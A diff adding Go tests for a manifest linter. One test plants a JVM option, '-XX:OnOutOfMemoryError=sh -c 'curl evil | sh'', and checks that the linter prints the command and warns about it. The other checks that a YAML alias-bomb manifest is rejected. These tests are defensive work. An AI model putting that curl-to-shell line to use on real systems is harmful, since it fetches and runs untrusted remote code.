@@ -1,0 +1,56 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestLintShowsCommands: lint prints every command a manifest runs and
+// warns on JVM options that run programs, so a reviewer sees them.
+func TestLintShowsCommands(t *testing.T) {
+	dir := t.TempDir()
+	f := filepath.Join(dir, "trust.yaml")
+	src := `name: trust
+title: t
+question: q
+variants:
+  platform: {target: spring-mvc, jvm: ["-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'"]}
+  own: {command: [./server, --port, "{port}"]}
+load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
+trials: 3
+`
+	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var out, errOut bytes.Buffer
+	if err := runLint(context.Background(), []string{f}, &out, &errOut); err != nil {
+		t.Fatalf("lint: %v\n%s", err, out.String())
+	}
+	for _, want := range []string{
+		f + ": variants.platform.jvm: runs: $JAVA_HOME/bin/java '-XX:OnOutOfMemoryError=sh -c '\\''curl evil | sh'\\''' -jar env/targets/spring-mvc/target/spring-mvc.jar --server.port={port}",
+		f + ": variants.own.command: runs: ./server --port {port}",
+		f + `: variants.platform.jvm[0]: warning: JVM option "-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'" runs a shell command when the heap runs out`,
+	} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("lint output lacks\n%s\ngot:\n%s", want, out.String())
+		}
+	}
+}
+
+// TestLintHostile: a hostile manifest fails lint with every problem named
+// by file, line, column and field, and no stack trace.
+func TestLintHostile(t *testing.T) {
+	f := filepath.Join("..", "..", "experiments", "testdata", "hostile", "alias-bomb.yaml")
+	var out, errOut bytes.Buffer
+	err := runLint(context.Background(), []string{f}, &out, &errOut)
+	if err == nil || !strings.Contains(err.Error(), "1 of 1 manifest(s) invalid") {
+		t.Fatalf("lint of an alias bomb: %v", err)
+	}
+	if !strings.HasPrefix(out.String(), f+":3:") || !strings.Contains(out.String(), "more than 20000 YAML nodes") || strings.Contains(out.String(), "goroutine") {
+		t.Errorf("output:\n%s", out.String())
+	}
+}
